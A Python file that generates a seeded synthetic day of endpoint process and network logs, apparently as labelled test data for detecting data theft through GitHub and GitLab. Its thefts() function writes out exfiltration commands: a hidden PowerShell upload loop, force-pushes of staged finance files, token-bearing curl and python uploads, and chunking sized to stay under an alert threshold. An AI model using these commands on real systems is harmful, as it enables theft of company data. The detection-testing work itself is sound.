"""One day of a company of some forty machines, in which seven thefts hide.

The noise is drawn from a seed, so the day is always the same. Everything that could alert, or nearly does, is written
by hand further down and carries a label of its own; the rest has the sample's default label.
"""

import datetime
import random

from events import API, PUSH, ROOT, UPLOAD, User, Device, network, process
from world import DROP, NETWORK_SERVICE, OWN, SYSTEM, TOKEN, Program

SEED = 20261022
DAY = datetime.datetime(2026, 10, 22)
EXPLORER = "C:\\Windows\\Explorer.EXE"
CMD = '"C:\\Windows\\System32\\cmd.exe"'
PSX = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
SERVICES = "C:\\Windows\\system32\\services.exe"
EDGE = '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"'
CODE = '"C:\\Program Files\\Microsoft VS Code\\Code.exe"'
BASH = '"C:\\Program Files\\Git\\usr\\bin\\bash.exe" --login -i'
SVCHOST = "C:\\Windows\\System32\\svchost.exe -k {}"

OFFICE = [
    "a.ferreira", "b.nakamura", "c.olsen", "d.moreau", "e.whitfield", "f.santos", "g.kowalski", "h.abbas",
    "j.petrov", "k.lindqvist", "m.okafor", "n.vasquez", "p.eriksen", "q.laurent", "s.dahl", "v.rossi",
]  # fmt: skip
DEVELOPERS = ["i.marchetti", "l.novak", "o.haddad", "r.iyer", "t.bergstrom", "w.chen"]
ADMINS = ["adm.halloran", "adm.sorensen"]

# Share of a person's rows in each hour of the day.
OFFICE_HOURS = [0, 0, 0, 0, 0, 0, 1, 5, 10, 11, 11, 9, 5, 9, 11, 10, 8, 5, 2, 1, 1, 0, 0, 0]
DEV_HOURS = [1, 0, 0, 0, 0, 0, 0, 2, 6, 10, 11, 10, 6, 8, 11, 11, 10, 8, 6, 3, 2, 2, 2, 1]
ALL_DAY = [1] * 24


class Day:
    """Draws the noise. Only `random()` is used, whose sequence Python keeps for a seed."""

    def __init__(self):
        self.draw = random.Random(SEED)
        self.rows = []

    def below(self, n):
        return int(self.draw.random() * n)

    def pick(self, options):
        return options[self.below(len(options))]

    def between(self, low, high):
        """More often near the low end, as sizes are."""
        return low + int((high - low) * self.draw.random() ** 3)

    def moment(self, hours):
        at = self.draw.random() * sum(hours)
        for hour, share in enumerate(hours):
            if at < share:
                break
            at -= share
        micro = self.below(1_000_000)
        return DAY.replace(hour=hour, minute=self.below(60), second=self.below(60), microsecond=micro)

    def guid(self):
        return "-".join(f"{self.below(16**n):0{n}x}" for n in (8, 4, 4, 4, 12))

    def started(self, at, device, user, name, command, parent, parent_command, grandparent):
        self.rows.append(process(at, device, user, name, command, parent, parent_command, grandparent, ordinary=True))

    def connected(self, at, device, user, name, command, parent, url, sent, received, port=443):
        self.rows.append(
            network(at, device, user, name, command, parent, url, self.between(*sent), self.between(*received), port, ordinary=True))  # fmt: skip


def machines():
    laptops = {who: Device(f"th-lt-{401 + 3 * i:04}") for i, who in enumerate(OFFICE)}
    laptops |= {who: Device(f"th-ws-{231 + 2 * i:04}") for i, who in enumerate(DEVELOPERS)}
    laptops |= {who: Device(f"th-adm-{1 + i:02}") for i, who in enumerate(ADMINS)}
    return laptops


def windows_itself(day, device, count, hours):
    """What Windows does without anybody asking."""
    for _ in range(count):
        at = day.moment(hours)
        kind = day.below(9)
        net = SVCHOST.format("netsvcs -p -s Schedule")
        dcom = SVCHOST.format("DcomLaunch -p")
        if kind == 0:
            day.started(at, device, SYSTEM, "taskhostw.exe", day.pick(["taskhostw.exe", "taskhostw.exe Install $(Arg0)", "taskhostw.exe SYSTEM"]), "svchost.exe", net, "services.exe")
        elif kind == 1:
            day.started(at, device, SYSTEM, "RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", "svchost.exe", dcom, "services.exe")
        elif kind == 2:
            day.started(at, device, SYSTEM, "backgroundTaskHost.exe", f'"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:{day.pick(["App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0", "CortanaUI.AppX8z9r6jm96hw4bsbneegw0kyxx296wr9t"])}.mca', "svchost.exe", dcom, "services.exe")
        elif kind == 3:
            day.started(at, device, SYSTEM, "MpCmdRun.exe", day.pick(['"MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges', '"MpCmdRun.exe" -IdleTask -TaskName WdCacheMaintenance']), "svchost.exe", net, "services.exe")
        elif kind == 4:
            day.started(at, device, SYSTEM, "SearchProtocolHost.exe", f'"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{day.below(400)}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{day.below(400)} 1 -2147483646', "SearchIndexer.exe", "C:\\Windows\\system32\\SearchIndexer.exe /Embedding", "services.exe")
        elif kind == 5:
            day.started(at, device, SYSTEM, "dllhost.exe", f"C:\\Windows\\system32\\DllHost.exe /Processid:{{{day.guid().upper()}}}", "svchost.exe", dcom, "services.exe")
        elif kind == 6:
            day.started(at, device, NETWORK_SERVICE, "wmiprvse.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "svchost.exe", dcom, "services.exe")
        elif kind == 7:
            day.started(at, device, SYSTEM, "MicrosoftEdgeUpdate.exe", '"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler', "svchost.exe", net, "services.exe")
        else:
            day.started(at, device, SYSTEM, "gpupdate.exe", "gpupdate.exe /target:computer", "svchost.exe", net, "services.exe")
    for _ in range(count // 2):
        at = day.moment(hours)
        name, command, parent, url, sent = day.pick([
            ("svchost.exe", SVCHOST.format("netsvcs -p -s wuauserv"), "services.exe", "slscr.update.microsoft.com", (2_000, 30_000)),
            ("svchost.exe", SVCHOST.format("NetworkService -p -s Dnscache"), "services.exe", "settings-win.data.microsoft.com", (900, 9_000)),
            ("MsSense.exe", '"C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe"', "services.exe", "winatp-gw-weu.microsoft.com", (20_000, 900_000)),
            ("MsMpEng.exe", '"MsMpEng.exe"', "services.exe", "wdcp.microsoft.com", (3_000, 60_000)),
            ("MicrosoftEdgeUpdate.exe", '"MicrosoftEdgeUpdate.exe" /ua', "svchost.exe", "msedge.api.cdp.microsoft.com", (1_000, 8_000)),
        ])  # fmt: skip
        day.connected(at, device, SYSTEM, name, command, parent, url, sent, (2_000, 400_000))


DOCUMENTS = ["Angebot Kühlwasser.docx", "board-minutes-october.docx", "Q3 pricing, final.xlsx", "travel \"Bergen\".docx", "supplier-audit.xlsx", "Lönelista.xlsx", "sea-trial-plan.pptx", "kundliste-2026.xlsx", "datasheet_TI-400.pdf", "invoice_88120.pdf"]
SITES = ["www.bing.com", "outlook.office.com", "tarnholm.sharepoint.com", "teams.microsoft.com", "www.vg.no", "learn.microsoft.com", "www.maritime-exec.com", "en.wikipedia.org", "www.kystverket.no", "login.microsoftonline.com", "www.dhl.com", "docs.python.org", "stackoverflow.com"]


def office_work(day, who, device, count, hours):
    user = User(who)
    for _ in range(count):
        at = day.moment(hours)
        kind = day.below(8)
        folder = f"C:\\Users\\{who}\\{day.pick(['Documents', 'Downloads', 'OneDrive - Tarnholm Instruments'])}"
        if kind == 0:
            name = day.pick(DOCUMENTS)
            app = {"docx": "WINWORD.EXE", "xlsx": "EXCEL.EXE", "pptx": "POWERPNT.EXE", "pdf": "Acrobat.exe"}[name[-4:].strip(".")]
            day.started(at, device, user, app, f'"{app}" /n "{folder}\\{name}"', "explorer.exe", EXPLORER, "userinit.exe")
        elif kind == 1:
            day.started(at, device, user, "OUTLOOK.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle', "explorer.exe", EXPLORER, "userinit.exe")
        elif kind in (2, 3, 4):
            day.started(at, device, user, "msedge.exe", f"{EDGE} --type={day.pick(['renderer', 'utility --utility-sub-type=network.mojom.NetworkService', 'gpu-process'])} --lang=en-GB --field-trial-handle={day.below(9000) + 1000},i,{day.below(10**9)} /prefetch:{day.below(9)}", "msedge.exe", EDGE, "explorer.exe")
        elif kind == 5:
            day.started(at, device, user, "ms-teams.exe", '"ms-teams.exe" msteams:system-initiated', "explorer.exe", EXPLORER, "userinit.exe")
        elif kind == 6:
            day.started(at, device, user, "OneDrive.exe", '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background', "explorer.exe", EXPLORER, "userinit.exe")
        else:
            day.started(at, device, user, "notepad.exe", f'"C:\\Windows\\system32\\notepad.exe" {folder}\\notes.txt', "explorer.exe", EXPLORER, "userinit.exe")
    for _ in range(count):
        at = day.moment(hours)
        kind = day.below(10)
        if kind < 5:
            day.connected(at, device, user, "msedge.exe", f"{EDGE} --profile-directory=Default", "explorer.exe", day.pick(SITES), (800, 90_000), (4_000, 6_000_000))
        elif kind < 7:
            day.connected(at, device, user, "ms-teams.exe", '"ms-teams.exe"', "explorer.exe", day.pick(["teams.microsoft.com", "eu-prod.asyncgw.teams.microsoft.com"]), (3_000, 24_000_000), (4_000, 30_000_000))
        elif kind == 7:
            day.connected(at, device, user, "OneDrive.exe", '"OneDrive.exe" /background', "explorer.exe", "tarnholm-my.sharepoint.com", (4_000, 60_000_000), (2_000, 9_000_000))
        elif kind == 8:
            day.connected(at, device, user, "OUTLOOK.EXE", '"OUTLOOK.EXE"', "explorer.exe", "outlook.office365.com", (2_000, 12_000_000), (3_000, 5_000_000))
        else:
            day.connected(at, device, user, "EXCEL.EXE", '"EXCEL.EXE"', "explorer.exe", "th-fs-01.corp.tarnholm.example", (900, 400_000), (900, 2_000_000), 445)


REPOSITORIES = ["firmware", "hull", "dashboard", "telemetry-ui", "gateway", "calibration"]


def development(day, who, device, count):
    user = User(who)
    for _ in range(count):
        at = day.moment(DEV_HOURS)
        kind = day.below(10)
        repo = day.pick(REPOSITORIES)
        if kind < 4:
            day.started(at, device, user, "git.exe", day.pick(["git.exe status -z -uall", "git.exe fetch --prune origin", "git.exe for-each-ref --format=%(refname) --sort -committerdate", "git.exe rev-parse --git-dir --git-common-dir", "git.exe diff --name-status -z"]), "Code.exe", CODE, "explorer.exe")
        elif kind == 4:
            day.started(at, device, user, "git.exe", day.pick([f"git.exe pull https://github.com/{OWN}/{repo}.git main", f"git.exe clone https://github.com/{OWN}/{repo}.git", "git.exe push origin HEAD", f"git.exe log --oneline -n {day.below(40)}", "git.exe rebase -i origin/main"]), "bash.exe", BASH, "mintty.exe")
        elif kind == 5:
            day.started(at, device, user, "node.exe", day.pick(['"C:\\Program Files\\nodejs\\node.exe" .\\node_modules\\vite\\bin\\vite.js', '"C:\\Program Files\\nodejs\\node.exe" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" ci']), "cmd.exe", CMD, "Code.exe")
        elif kind == 6:
            day.started(at, device, user, "python.exe", day.pick(['"C:\\Program Files\\Python312\\python.exe" -m pytest -q', '"C:\\Program Files\\Python312\\python.exe" tools\\plot_depth.py run.csv', '"C:\\Program Files\\Python312\\python.exe" -m pip install -r requirements.txt']), "cmd.exe", CMD, "Code.exe")
        elif kind == 7:
            day.started(at, device, user, "MSBuild.exe", '"MSBuild.exe" Hull.sln /m /nologo /p:Configuration=Debug', "devenv.exe", '"devenv.exe" C:\\src\\hull\\Hull.sln', "explorer.exe")
        elif kind == 8:
            day.started(at, device, user, "dotnet.exe", f'"C:\\Program Files\\dotnet\\dotnet.exe" test --no-build --filter FullyQualifiedName~{day.pick(["Depth", "Nmea", "Sonar"])}', "cmd.exe", CMD, "Code.exe")
        else:
            day.started(at, device, user, "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" /d /s /c "npm run build"', "Code.exe", CODE, "explorer.exe")
    for _ in range(count):
        at = day.moment(DEV_HOURS)
        kind = day.below(8)
        repo = day.pick(REPOSITORIES)
        if kind < 3:
            url = day.pick([f"https://github.com/{OWN}/{repo}.git", f"https://gitlab.com/{OWN}/{repo}.git", f"https://dev.azure.com/{OWN}/{repo}/_git/{repo}"])
            day.connected(at, device, user, "git-remote-https.exe", f"git remote-https {url} {url}", "git.exe", url.split("/")[2], (2_100, 260_000), (3_000, 40_000_000))
        elif kind == 3:
            day.connected(at, device, user, "node.exe", '"node.exe" npm-cli.js ci', "cmd.exe", "packages.corp.tarnholm.example", (4_000, 400_000), (90_000, 60_000_000))
        elif kind == 4:
            day.connected(at, device, user, "python.exe", '"python.exe" -m pip install -r requirements.txt', "cmd.exe", "packages.corp.tarnholm.example", (2_000, 90_000), (50_000, 40_000_000))
        elif kind == 5:
            day.connected(at, device, user, "Code.exe", CODE, "explorer.exe", day.pick(["marketplace.visualstudio.com", "vscode.download.prss.microsoft.com", "api.github.com"]), (1_000, 300_000), (3_000, 9_000_000))
        elif kind == 6:
            day.connected(at, device, user, "msedge.exe", f"{EDGE} --profile-directory=Default", "explorer.exe", day.pick(["github.com", "gitlab.com", "dev.azure.com", "raw.githubusercontent.com", "stackoverflow.com"]), (2_000, 480_000), (9_000, 8_000_000))
        else:
            day.connected(at, device, user, "ssh.exe", "ssh.exe th-lnx-app-03", "bash.exe", "th-lnx-app-03.corp.tarnholm.example", (3_000, 900_000), (4_000, 2_000_000), 22)


def administration(day, who, device, count):
    user = User(who)
    for _ in range(count):
        at = day.moment(OFFICE_HOURS)
        command = day.pick([
            f'"{PSX}" -NoProfile -Command "Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv C:\\Temp\\users.csv"',
            f'"{PSX}" -NoProfile -Command "Invoke-RestMethod -Uri https://cmdb.corp.tarnholm.example/api/hosts -UseDefaultCredentials"',
            f'"{PSX}" -NoProfile -ExecutionPolicy RemoteSigned -File C:\\Scripts\\Restart-StaleServices.ps1',
            f'"{PSX}" -Command "Test-NetConnection th-fs-01 -Port 445"',
        ])  # fmt: skip
        day.started(at, device, user, "powershell.exe", command, "explorer.exe", EXPLORER, "userinit.exe")
        day.connected(day.moment(OFFICE_HOURS), device, user, "powershell.exe", command, "explorer.exe", day.pick(["cmdb.corp.tarnholm.example", "management.azure.com", "graph.microsoft.com"]), (1_000, 900_000), (2_000, 4_000_000))


def linux_servers(day, devices, count):
    for _ in range(count):
        device = day.pick(devices)
        at = day.moment(ALL_DAY)
        cron = "/usr/sbin/CRON -f -P"
        name, command, parent, parent_command, grandparent = day.pick([
            ("bash", "/bin/bash -c /usr/local/sbin/healthcheck.sh", "cron", cron, "cron"),
            ("curl", "curl -fsS -m 5 http://127.0.0.1:8080/health", "bash", "bash /usr/local/sbin/healthcheck.sh", "cron"),
            ("grep", "grep -c ERROR /var/log/app/app.log", "bash", "bash /usr/local/sbin/healthcheck.sh", "cron"),
            ("ps", "ps -eo pid,user,args --sort user", "bash", "bash /usr/local/sbin/inventory.sh", "cron"),
            ("apt-get", "/usr/bin/apt-get -qq -y update", "bash", "/bin/sh /usr/lib/apt/apt.systemd.daily update", "systemd"),
            ("logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "dash", "/bin/sh /etc/cron.daily/logrotate", "cron"),
            ("python3.11", "/usr/bin/python3 /usr/lib/ubuntu-advantage/apt_news.py", "systemd", "/usr/lib/systemd/systemd", "systemd"),
            ("ansible-playbook", "ansible-playbook -i hosts site.yml --check", "bash", "-bash", "sshd"),
            ("git", "git pull --quiet --ff-only", "bash", "bash /usr/local/sbin/deploy-check.sh", "cron"),
        ])  # fmt: skip
        day.started(at, device, ROOT, name, command, parent, parent_command, grandparent)
        if day.below(3) == 0:
            name, command, parent, url, port = day.pick([
                ("curl", "curl -fsS https://status.corp.tarnholm.example/ping", "bash", "status.corp.tarnholm.example", 443),
                ("apt-get", "/usr/bin/apt-get -qq -y update", "bash", "deb.corp.tarnholm.example", 80),
                ("python3.11", "/usr/bin/python3 /opt/telemetry/ship.py", "systemd", "telemetry.corp.tarnholm.example", 8443),
                ("restic", "restic backup /srv", "cron", "thbackup.blob.core.windows.net", 443),
                ("git-remote-https", "/usr/lib/git-core/git-remote-https origin", "git", "gitlab.com", 443),
            ])  # fmt: skip
            big = (200_000, 90_000_000) if name in ("restic", "python3.11") else (800, 40_000)
            day.connected(day.moment(ALL_DAY), device, ROOT, name, command, parent, url, big, (900, 900_000), port)


def at(clock):
    return f"2026-10-22T{clock}"


def benign_alerts(m):
    """Work that alerts, and work that nearly does."""
    bld, cfg = Device("th-bld-01"), Device("th-netcfg-01", linux=True)
    lnx = Device("th-bld-lnx-02", linux=True)
    jenkins, runner, renovate = User("svc-jenkins"), User("svc-ghrunner", ""), User("renovate", "")
    java = "java.exe -jar agent.jar -url https://jenkins.corp.tarnholm.example/"
    hub, lab, azure = f"https://github.com/{OWN}", f"https://gitlab.com/{OWN}", f"https://dev.azure.com/{OWN}"
    rows = []
    pushes = [
        ("i.marchetti", "09:14:22.118204", f"{hub}/firmware.git", "feature/depth-sensor", 188_204),
        ("w.chen", "10:02:51.660118", f"{lab}/dashboard.git", "wei/charts", 1_402_118),
        ("r.iyer", "10:48:09.331207", f"{hub}/gateway.git", "raj/tls13", 92_044),
        ("t.bergstrom", "11:31:40.907715", f"{lab}/calibration.git", "main", 5_118_330),
        ("l.novak", "13:20:18.204110", f"{hub}/telemetry-ui.git", "lena/wip", 655_361),
        ("o.haddad", "13:55:02.771604", f"{azure}/hull/_git/hull", "users/omar/fairing", 3_904_117),
        ("i.marchetti", "14:40:33.118066", f"{hub}/firmware.git", "hotfix/4.17.2", 61_220),
        ("w.chen", "15:12:45.550328", f"{lab}/dashboard.git", "wei/charts", 498_331),
        ("r.iyer", "16:05:27.003311", f"{hub}/gateway.git", "raj/tls13", 120_775),
        ("l.novak", "16:44:58.660204", f"{hub}/telemetry-ui.git", "lena/icons", 2_204_881),
        ("t.bergstrom", "17:38:11.440912", f"{lab}/calibration.git", "rig-7", 12_884_006),
    ]  # fmt: skip
    for who, clock, url, branch, sent in pushes:
        device, user = m[who], User(who)
        later = clock[:6] + f"{int(clock[6:8]) + 1:02}" + clock[8:]
        rows.append(process(at(clock), device, user, "git.exe", f"git.exe push {url} {branch}", "bash.exe", BASH, "mintty.exe",
                            why="A developer pushes to the company's own organisation.", signals=[PUSH]))  # fmt: skip
        big = sent > 524_288
        rows.append(network(at(later), device, user, "git-remote-https.exe", f"git remote-https {url} {url}", "git.exe", url.split("/")[2], sent, 3_900,
                            why="The same push by its bytes" + (": large enough to alert." if big else ": under the threshold."), signals=[UPLOAD] * big))  # fmt: skip
    for hour, sent in ((1, 31_044), (7, 40_118), (13, 29_337), (19, 33_902)):
        rows += [
            process(at(f"{hour:02}:41:30.118277"), bld, jenkins, "git.exe", f"git.exe push https://svc-jenkins@github.com/{OWN}/firmware.git build-{4100 + hour}", "java.exe", java, "jenkins.exe",
                    why="Jenkins pushes the tag of a build.", signals=[PUSH]),
            network(at(f"{hour:02}:41:31.660310"), bld, jenkins, "git-remote-https.exe", "git remote-https https://svc-jenkins@github.com/tarnholm-example/firmware.git", "git.exe", "github.com", sent, 2_900,
                    why="The tag is small."),
            process(at(f"{hour:02}:43:09.004113"), bld, jenkins, "curl.exe", f'curl.exe -sf -X POST -H "Authorization: Bearer ****" -d @release.json https://api.github.com/repos/{OWN}/firmware/releases', "java.exe", java, "jenkins.exe",
                    why="Jenkins creates a release through the API.", signals=[API]),
            network(at(f"{hour:02}:43:20.771804"), bld, jenkins, "curl.exe", f"curl.exe -sf --data-binary @firmware.zip https://uploads.github.com/repos/{OWN}/firmware/releases/{4100 + hour}/assets", "java.exe", "uploads.github.com", 48_000_117 + sent, 3_310,
                    why="Jenkins uploads the build.", signals=[UPLOAD]),
        ]  # fmt: skip
    for i, repo in enumerate(("dashboard", "telemetry-ui", "gateway")):
        rows.append(process(at(f"04:0{2 + i}:31.557120"), lnx, renovate, "git", f"git push --force-with-lease https://**redacted**@github.com/{OWN}/{repo}.git renovate/lock-file", "node", "node /usr/local/bin/renovate --platform=github", "containerd-shim-runc-v2",
                            why="Renovate pushes a branch.", signals=[PUSH]))  # fmt: skip
    rows += [
        network(at("04:06:20.771442"), lnx, renovate, "node", "node /usr/local/bin/renovate --platform=github", "containerd-shim-runc-v2", "api.github.com", 1_104_338, 8_810_227,
                why="Renovate's API calls add up.", signals=[UPLOAD]),
        process(at("06:19:02.559013"), lnx, runner, "git", f"/usr/bin/git push https://x-access-token:***@github.com/{OWN}/site.git gh-pages --force", "bash", "/usr/bin/bash -e /opt/actions-runner/_work/_temp/6f0c.sh", "Runner.Worker",
                why="A GitHub runner publishes the documentation.", signals=[PUSH]),
        network(at("06:19:03.900117"), lnx, runner, "git-remote-https", f"/usr/lib/git-core/git-remote-https https://github.com/{OWN}/site.git", "git", "github.com", 6_204_881, 5_010,
                why="The documentation with its pictures.", signals=[UPLOAD]),
        process(at("11:05:29.118447"), m["r.iyer"], User("r.iyer"), "curl.exe", "curl.exe -s -X POST -d @query.json https://api.github.com/graphql", "bash.exe", BASH, "mintty.exe",
                why="A GraphQL question is a POST and only asks.", signals=[API]),
        process(at("12:31:00.204118"), m["l.novak"], User("l.novak"), "git.exe", f"git.exe -c push.default=current fetch https://github.com/{OWN}/telemetry-ui.git", "Code.exe", CODE, "explorer.exe",
                why="A fetch: push stands in an option.", signals=[PUSH]),
        process(at("14:02:19.118330"), m["w.chen"], User("w.chen"), "python.exe", f"python.exe -c \"import requests;print(requests.get('https://api.github.com/repos/{OWN}/dashboard/contents/README.md').text)\"", "bash.exe", BASH, "mintty.exe",
                why="Reads a file: contents is in the path of reads too.", signals=[API]),
        process(at("15:30:48.660017"), m["i.marchetti"], User("i.marchetti"), "git.exe", "git.exe clone https://github.com/mobile-example/push-notifications.git", "bash.exe", BASH, "mintty.exe",
                why="A clone of a repository with push in its name.", signals=[PUSH]),
        process(at("09:44:12.330118"), m["adm.halloran"], User("adm.halloran"), "powershell.exe", f'"{PSX}" -Command "Invoke-WebRequest https://api.github.com/repos/PowerShell/PowerShell/releases/latest -OutFile r.json"', "explorer.exe", EXPLORER, "userinit.exe",
                why="A download with the cmdlet that can also upload.", signals=[API]),
        process(at("16:20:33.118902"), m["o.haddad"], User("o.haddad"), "git.exe", f"git.exe clone https://github.com/{OWN}/pushgateway.git", "bash.exe", BASH, "mintty.exe",
                why="pushgateway is one term: no alert."),
        network(at("13:41:02.550118"), m["o.haddad"], User("o.haddad"), "msedge.exe", f"{EDGE} --profile-directory=Default", "explorer.exe", "github.com", 7_204_118, 90_220,
                why="Pictures dropped into an issue, by browser: no tool of the list."),
        network(at("10:10:44.118205"), m["t.bergstrom"], User("t.bergstrom"), "curl.exe", "curl.exe -sSO https://raw.githubusercontent.com/curl/curl/master/README.md", "bash.exe", "raw.githubusercontent.com", 1_880, 9_204,
                why="A download from a listed host."),
    ]  # fmt: skip
    for hour in range(0, 24, 2):
        rows += [
            process(at(f"{hour:02}:10:01.222410"), cfg, User("oxidized", ""), "git", f"git push --quiet https://gitlab.com/{OWN}/network-configs.git master", "ruby", "/usr/bin/ruby /usr/local/bin/oxidized", "systemd",
                    why="Oxidized pushes the switches' configuration.", signals=[PUSH]),
            network(at(f"{hour:02}:10:02.700133"), cfg, User("oxidized", ""), "git-remote-https", f"/usr/lib/git-core/git-remote-https https://gitlab.com/{OWN}/network-configs.git", "git", "gitlab.com", 24_000 + 911 * hour, 2_210,
                    why="A few changed lines."),
        ]  # fmt: skip
    return rows


def thefts(m):
    """Seven of them. Some alert, some do not, one does so by accident."""
    rows = []

    # 1. PowerShell uploads a folder of designs, file by file, through the contents API.
    pc, who = m["s.dahl"], User("s.dahl")
    script = f"foreach($f in gci D:\\Designs\\TI-500 -r -File){{$b=@{{message='x';content=[Convert]::ToBase64String([IO.File]::ReadAllBytes($f.FullName))}}|ConvertTo-Json;Invoke-RestMethod -Method PUT -Headers @{{Authorization='token {TOKEN}'}} -Uri ('https://api.github.com/repos/{DROP}/cad/contents/'+$f.Name) -Body $b}}"
    command = f'"{PSX}" -nop -w hidden -c "{script}"'
    rows.append(process(at("12:47:31.118204"), pc, who, "powershell.exe", command, "cmd.exe", CMD, "explorer.exe", malicious=True,
                        why="Theft 1: a loop uploads the designs of a new product at lunch.", signals=[API]))  # fmt: skip
    for i, sent in enumerate((1_404_118, 6_220_771, 480_119, 3_118_004, 2_007_662)):
        big = sent > 524_288
        rows.append(network(at(f"12:4{8 + i // 3}:{7 + 17 * (i % 3):02}.30{i}118"), pc, who, "powershell.exe", command, "cmd.exe", "api.github.com", sent, 2_400, malicious=True,
                            why="Theft 1: one file of the loop" + ("." if big else ", too small to alert."), signals=[UPLOAD] * big))  # fmt: skip

    # 2. Finance documents pushed by force, after hours.
    pc, who = m["m.okafor"], User("m.okafor")
    stage = "C:\\Users\\m.okafor\\AppData\\Local\\Temp\\wk"
    remote = f"https://{TOKEN}@github.com/{DROP}/site-backup.git"
    rows.append(process(at("18:33:40.231877"), pc, who, "robocopy.exe", f'robocopy  "\\\\th-fs-01\\finance\\2026" {stage} /S /NFL', "cmd.exe", CMD, "explorer.exe", malicious=True,
                        why="Theft 2: the finance share is staged."))  # fmt: skip
    for clock, text in (("18:36:31.118022", f"init -b main {stage}"), ("18:36:44.903315", f"-C {stage} add -A"), ("18:36:58.457120", f'-C {stage} commit -q -m "update"')):
        rows.append(process(at(clock), pc, who, "git.exe", f"git  {text}", "cmd.exe", CMD, "explorer.exe", malicious=True, why="Theft 2: a repository is made of it."))  # fmt: skip
    rows += [
        process(at("18:37:20.689174"), pc, who, "git.exe", f"git  -C {stage} push --force {remote} main", "cmd.exe", CMD, "explorer.exe", malicious=True,
                why="Theft 2: the push. A parent cmd.exe where developers have bash.exe, and an account in finance.", signals=[PUSH]),
        network(at("18:37:22.940028"), pc, who, "git-remote-https.exe", f"git remote-https {remote} {remote}", "git.exe", "github.com", 48_220_774, 6_004, malicious=True,
                why="Theft 2: 46 MB of documents.", signals=[UPLOAD]),
    ]  # fmt: skip

    # 3. A gist from a server's service account, at night.
    srv, svc = Device("th-mgmt-01"), User("svc-inventory")
    post = f'curl.exe -s -X POST -H "Authorization: token {TOKEN}" -d @C:\\ProgramData\\inv\\o.json https://api.github.com/gists'
    rows += [
        process(at("02:17:09.008341"), srv, svc, "curl.exe", post, "powershell.exe", f'"{PSX}" -File C:\\ProgramData\\inv\\run.ps1', "svchost.exe", malicious=True,
                why="Theft 3: an inventory account posts a gist at two in the morning.", signals=[API]),
        network(at("02:17:10.400877"), srv, svc, "curl.exe", post, "powershell.exe", "api.github.com", 30_118, 3_004, malicious=True,
                why="Theft 3: credentials need no megabytes; signal 1 stays quiet."),
    ]  # fmt: skip

    # 4. A Linux server, with python3.11.
    lnx = Device("th-lnx-app-05", linux=True)
    rows += [
        process(at("21:05:11.118302"), lnx, ROOT, "python3.11", f"python3 -c 'import requests;requests.put(\"https://api.github.com/repos/{DROP}/db/contents/d\",data=open(\"/var/tmp/.d\",\"rb\"))'", "bash", "bash -i", "python3.11", malicious=True,
                why="Theft 4: all of signal 3 is there but the process, python3.11."),
        network(at("21:05:13.660118"), lnx, ROOT, "python3.11", "python3 -c import requests", "bash", "api.github.com", 61_044_118, 2_204, malicious=True,
                why="Theft 4: 58 MB, missed: python3.11 does not have the term python."),
    ]  # fmt: skip

    # 5. GitHub's own command line.
    pc, who = m["q.laurent"], User("q.laurent")
    rows += [
        process(at("16:58:03.331208"), pc, who, "gh.exe", f"gh  release upload v1 D:\\contracts.7z --repo {DROP}/n", "cmd.exe", CMD, "explorer.exe", malicious=True,
                why="Theft 5: gh.exe names no host and is in no list."),
        network(at("16:58:05.118007"), pc, who, "gh.exe", f"gh  release upload v1 D:\\contracts.7z --repo {DROP}/n", "cmd.exe", "uploads.github.com", 210_448_003, 4_118, malicious=True,
                why="Theft 5: 200 MB to a host that matches, by a tool that does not."),
    ]  # fmt: skip

    # 6. Many small pieces; one of them a little too large.
    pc, who = m["n.vasquez"], User("n.vasquez")
    for i in range(40):
        sent = 524_288 if i == 11 else 524_300 if i == 29 else 470_000 + (i * 7_919) % 54_000
        url = f"https://gitlab.com/api/v4/projects/771/packages/generic/p/1/p{i:02}"
        rows.append(network(at(f"{14 + (i + 10) // 30}:{(2 * i + 20) % 60:02}:{(i * 13) % 60:02}.{100 + i}204"), pc, who, "curl.exe", f"curl.exe -sS -T p{i:02} {url}", "cmd.exe", "gitlab.com", sent, 612, malicious=True,
                            why="Theft 6: a piece of 524,300 bytes slipped over the threshold." if sent > 524_288 else "Theft 6: exactly at the threshold, not over it." if sent == 524_288 else "Theft 6: one of forty pieces, under the threshold.",
                            signals=[UPLOAD] * (sent > 524_288)))  # fmt: skip

    # 7. A named remote.
    pc, who = m["v.rossi"], User("v.rossi")
    rows += [
        process(at("13:08:30.204117"), pc, who, "git.exe", "git.exe push origin main", "cmd.exe", CMD, "explorer.exe", malicious=True,
                why="Theft 7: somebody in purchasing pushes; the remote is named, so signal 2 is silent."),
        network(at("13:08:31.771330"), pc, who, "git-remote-https.exe", "git remote-https origin https://gitlab.com/qz-drop-example/p.git", "git.exe", "gitlab.com", 9_118_440, 2_004, malicious=True,
                why="Theft 7: signal 1 sees the bytes.", signals=[UPLOAD]),
        network("2026-10-21T23:12:40.118302", pc, who, "git-remote-https.exe", "git remote-https origin https://gitlab.com/qz-drop-example/p.git", "git.exe", "gitlab.com", 4_400_118, 2_004, malicious=True,
                why="Theft 7, the evening before: older than the look-back."),
    ]  # fmt: skip

    # A look-alike that is no code host at all.
    tool = Program("curl.exe", "C:\\Windows\\System32", "curl, https://curl.se/", "The curl executable", "curl.exe")
    rows.append(network(at("19:20:44.118204"), m["n.vasquez"], User("n.vasquez"), tool, "curl.exe -T x.7z https://notgithub.com/u/", "cmd.exe", "notgithub.com", 2_204_118, 300, malicious=True,
                        why="A look-alike domain: notgithub is one term."))  # fmt: skip
    return rows


def mixed_day():
